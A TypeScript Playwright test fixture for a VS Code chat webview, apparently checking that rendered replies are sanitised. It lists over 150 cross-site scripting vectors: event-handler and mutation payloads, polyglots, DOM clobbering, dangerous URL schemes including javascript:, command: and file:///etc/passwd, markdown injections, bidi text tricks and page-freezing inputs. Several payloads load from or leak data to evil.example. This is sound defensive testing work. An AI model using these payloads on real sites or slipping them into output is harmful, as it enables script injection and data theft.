import type { Locator } from "playwright-core";

/**
 * What a hostile model, gateway or workspace may write. Each piece of script would call `attack()` or open a dialog, and each
 * address that could be loaded leads to evil.example.
 */

const RUN = "attack(),alert(1)";

/** Elements that run something by themselves, or when they are touched. */
const handlers = [
  `<img src=x onerror=${RUN}>`,
  `<img src="https://evil.example/a.png" onload="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributename=x>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,attack()" /></svg>`,
  `<svg><a xlink:href="javascript:attack()"><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='attack()' /></svg>#x" />`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<body onhashchange=${RUN}><a href=#x>x</a>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${RUN}>x</div>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror="${RUN}"></video>`,
  `<video src=x onerror=${RUN}>`,
  `<video autoplay onloadstart=${RUN} src=x>`,
  `<audio src=x onerror=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<object data=x onerror=${RUN}>`,
  `<embed src=x onload=${RUN}>`,
  `<iframe onload=${RUN}></iframe>`,
  `<style onload=${RUN}></style>`,
  `<link rel=stylesheet href=x onerror=${RUN}>`,
  `<div onpointerover=${RUN}>x</div>`,
  `<div style="animation: x 1s" onanimationstart=${RUN}>x</div>`,
  `<div contenteditable onblur=${RUN} tabindex=0 autofocus>x</div>`,
  `<x onclick=${RUN} tabindex=1 id=x>x</x>`,
  `<form onsubmit=${RUN}><input type=submit></form>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
  `<a onclick=${RUN} href=#>x</a>`,
];

/** Script itself. */
const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src="https://evil.example/a.js"></script>`,
  `<script src=//evil.example/a.js></script>`,
  `<script type=module>import "https://evil.example/a.js"</script>`,
  `<script>/*`,
  `<script\u0000>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<<script>${RUN}//<</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><script>${RUN}</script></template>`,
  `<iframe srcdoc="<script>parent.attack()</script>"></iframe>`,
  `<iframe src="javascript:parent.attack()"></iframe>`,
  `<object data="data:text/html,<script>parent.attack()</script>"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImF0dGFjaygpIj4=">`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-attack()+ADw-/script+AD4-`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><script>${RUN}</script></annotation-xml></math>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<select><template shadowrootmode=open><script>${RUN}</script></template></select>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml-stylesheet href="javascript:attack()"?>`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>"></p></xmp>`,
  `<plaintext><script>${RUN}</script>`,
  `{{constructor.constructor('attack()')()}}`,
  `\${attack()}`,
  `<%= attack() %>`,
  `#{attack()}`,
  `[[\${attack()}]]`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+attack()//'>`,
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=attack() )//%0D%0A//</stYle/</titLe/\\x3csVg/<sVg/oNloAd=attack()//>`,
];

/** What would be loaded by being shown. */
const loads = [
  `<img src="https://evil.example/pixel.png?leak=1">`,
  `<img srcset="https://evil.example/a.png 1x">`,
  `<picture><source srcset="https://evil.example/a.webp"><img></picture>`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<link rel=preload as=image href="https://evil.example/a.png">`,
  `<link rel=dns-prefetch href="//evil.example">`,
  `<link rel=prerender href="https://evil.example/">`,
  `<link rel=manifest href="https://evil.example/a.json">`,
  `<style>@import url("https://evil.example/a.css");</style>`,
  `<style>* { background: url("https://evil.example/a.png") !important; display: none !important }</style>`,
  `<style>input[value^=a] { background: url("https://evil.example/a") }</style>`,
  `<div style="background: url(https://evil.example/a.png); position: fixed; inset: 0; z-index: 9999">x</div>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<frameset><frame src="https://evil.example/"></frameset>`,
  `<object data="https://evil.example/a.swf"></object>`,
  `<embed src="https://evil.example/a.pdf">`,
  `<video poster="https://evil.example/a.png" src="https://evil.example/a.mp4" autoplay></video>`,
  `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
  `<track src="https://evil.example/a.vtt" default>`,
  `<input type=image src="https://evil.example/a.png">`,
  `<body background="https://evil.example/a.png">`,
  `<table background="https://evil.example/a.png"><td>x</td></table>`,
  `<svg><image href="https://evil.example/a.png" /></svg>`,
  `<svg><use href="https://evil.example/a.svg#x" /></svg>`,
  `<svg><filter><feImage href="https://evil.example/a.png" /></filter></svg>`,
  `<meta http-equiv=refresh content="0; url=https://evil.example/">`,
  `<meta http-equiv=refresh content="0; url=javascript:attack()">`,
  `<base href="https://evil.example/">`,
  `<form action="https://evil.example/"><input name=a value=b autofocus></form>`,
  `<button formaction="javascript:attack()" form=x>x</button>`,
  `<a href="https://evil.example/" ping="https://evil.example/ping">x</a>`,
  `<portal src="https://evil.example/"></portal>`,
  `<applet code=A archive="https://evil.example/a.jar"></applet>`,
  `<bgsound src="https://evil.example/a.wav">`,
];

/** Elements that would take the place of the page's own. */
const clobbering = [
  `<div id=app></div>`,
  `<form id=acquireVsCodeApi></form>`,
  `<a id=globalThis><a id=globalThis name=acquireVsCodeApi href="https://evil.example/">x</a></a>`,
  `<form id=document><input name=body><input name=createElement></form>`,
  `<img name=currentScript>`,
  `<button aria-label=Send>Send</button><div role=log aria-label=Conversation>x</div>`,
];

/** Addresses that must not become links. */
export const badAddresses = [
  "javascript:attack()",
  "JAVASCRIPT:attack()",
  "jAvAsCrIpT:attack()",
  "java\tscript:attack()",
  "java\nscript:attack()",
  "\u0001javascript:attack()",
  "\u00A0javascript:attack()",
  "javascript\u200B:attack()",
  "javascript&colon;attack()",
  "javascript&#58;attack()",
  "javascript&#x3a;attack()",
  "&#106;avascript:attack()",
  "&#x6A;&#x61;vascript:attack()",
  "javascript%3Aattack()",
  "java&Tab;script:attack()",
  "java&NewLine;script:attack()",
  "javascript://evil.example/%0Aattack()",
  "javascript:https://evil.example/",
  "view-source:javascript:attack()",
  "feed:javascript:attack()",
  "vbscript:attack()",
  "livescript:attack()",
  "data:text/html,<script>attack()</script>",
  "data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=attack()>",
  "DATA:text/html,x",
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/1",
  "about:blank",
  "file:///etc/passwd",
  "//evil.example/",
  "\\\\evil.example\\share",
  "/\\evil.example",
  "command:workbench.action.terminal.new",
  "command:workbench.action.quit?%5B%5D",
  "vscode:extension/evil.evil",
  "vscode://evil.evil/run",
  "vscode-insiders://evil.evil/run",
  "vscode-webview://x/",
  "vscode-resource://file///etc/passwd",
  "vscode-file://vscode-app/x",
  "ms-settings:x",
  "ms-msdt:/id x",
  "search-ms:query=x",
  "ftp://evil.example/",
  "ssh://evil.example/",
  "tel:+1",
  "sms:+1",
  "intent://evil.example/#Intent;end",
  "chrome://settings",
  "ws://evil.example/",
  "jar:https://evil.example/a.jar!/",
  "http:/evil.example/",
  "https:evil.example",
  "http://",
  "http://[evil",
  "mailto",
  "#app",
  "?x=javascript:attack()",
];

/** What only markdown can do. */
const markdown = [
  `<javascript:attack()>`,
  `<command:workbench.action.quit>`,
  `[x]: javascript:attack()\n\n[x]`,
  `[__proto__]: javascript:attack()\n\n[__proto__] [constructor] [toString]`,
  `[x](https://good.example/ "\\"onmouseover=attack()")`,
  `[x](https://good.example/"onmouseover="attack())`,
  `![x"onerror="attack()](https://evil.example/a.png)`,
  `![x](https://evil.example/a.png "\\" onerror=\\"attack()")`,
  `[![x](javascript:attack())](javascript:attack())`,
  `[<img src=x onerror=${RUN}>](https://good.example/)`,
  `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``,
  `~~~js onload=attack()\nattack()\n~~~`,
  `| <img src=x onerror=${RUN}> | [x](javascript:attack()) |\n| --- | --- |\n| \`<svg onload=attack()>\` | ![x](https://evil.example/a.png) |`,
  `- [ ] <input onfocus=${RUN} autofocus>`,
  `# <img src=x onerror=${RUN}>`,
  `> <script>${RUN}</script>`,
  `$\\href{javascript:attack()}{x}$`,
  `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:attack()"\n\`\`\``,
  `[^1]\n\n[^1]: <script>${RUN}</script>`,
  `[^<svg/onload=attack()>] [^"onclick=attack()//]\n\n[^<svg/onload=attack()>]: [x](javascript:attack())\n[^"onclick=attack()//]: x`,
  `[^\u202Egnp.exe]\n\n[^\u202Egnp.exe]: x`,
  `<https://good.example/"onmouseover="attack()>`,
  `https://good.example/<img/src=x/onerror=${RUN}>`,
];

/** Letters that make a text read otherwise than it is. */
export const directionTricks = [
  "\u202Egnp.exe\u202C",
  "\u2066hidden\u2069",
  "\u2067if (admin) {\u2069",
  "\u202Dabc\u202C",
  "access\u202A\u2068x\u2069\u202C",
];

/** All of it: at least 150. */
export const vectors: readonly string[] = [
  ...handlers,
  ...scripts,
  ...loads,
  ...clobbering,
  ...badAddresses,
  ...markdown,
  ...directionTricks,
];

/** Every vector everywhere that markdown has a place for it. */
export const hostileMarkdown = vectors
  .flatMap((vector) => {
    const line = vector.replaceAll("\n", " ");
    return [
      vector,
      `[text](${line})`,
      `[text](<${line}>)`,
      `![alt](${line})`,
      `\`${line}\``,
      `\`\`\`html\n${vector}\n\`\`\``,
    ];
  })
  .join("\n\n");

/** Shapes that could freeze the page. */
export const heavy = {
  line: () => "x".repeat(10_000_000),
  brackets: () => "[a **b* _c word ".repeat(20_000),
  quotes: () => `${">".repeat(10_000)} deep`,
  table: () => `| a | b |\n| --- | --- |\n${"| 1 | `x` |\n".repeat(20_000)}`,
} satisfies Readonly<Record<string, () => string>>;

/** Elements that the conversation is made of: those of replies, and the page's own. */
const ELEMENTS =
  "a article bdi blockquote br button code dd details div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 hr i img input kbd li ol p path pre q s section span strong summary sup svg table tbody td textarea th thead tr ul";
const ATTRIBUTES =
  "alt checked class d dir disabled hidden href id maxlength open role rows start style tabindex title type value viewbox placeholder";

/** What of a conversation is not on the lists of what is allowed; nothing when all is well. */
export function harmIn(conversation: Locator): Promise<string[]> {
  return conversation.evaluate(
    (root, { elements, attributes }) => {
      const found = new Set<string>();
      if ("attacked" in globalThis) found.add("a script has run");
      for (const it of root.querySelectorAll("*")) {
        const tag = it.localName;
        const text = [...it.childNodes].map((child) => (child instanceof Text ? child.data : "")).join("");
        if (/[\u202A-\u202E\u2066-\u2069]/.test(text)) found.add(`<${tag} class="${it.className}"> reads otherwise`);
        if (!elements.includes(tag)) found.add(`<${tag}>`);
        for (const { name, value } of it.attributes) {
          const known = attributes.includes(name.toLowerCase()) || /^(aria|data)-[a-z-]+$/.test(name);
          if (!known) found.add(`<${tag} ${name}>`);
          if (
            name === "style" &&
            !/^((--[a-z]+|contain-intrinsic-block-size): ?((auto )?[\w.]+|[\w.,+*() -]+fr\));? ?)*$/.test(value)
          )
            found.add(`style="${value}"`);
          // Made by the page: links to files, symbols and footnotes.
          const own = (it.matches("[data-file], [data-symbol]") && value === "#") || /^#note-[\d-]+$/.test(value);
          if (name === "href" && !own && !/^(https?:\/\/|mailto:)/i.test(value)) found.add(`href="${value}"`);
        }
        if (/[\u202A-\u202E\u2066-\u2069]/.test(it.getAttribute("title") ?? ""))
          found.add("a tooltip that reads otherwise");
      }
      return [...found];
    },
    { elements: ELEMENTS.split(" "), attributes: ATTRIBUTES.split(" ") },
  );
}

/** Runs in a page: what the vectors call. */
export function setTrap(): void {
  Object.assign(globalThis, { attack: () => Object.assign(globalThis, { attacked: true }) });
}
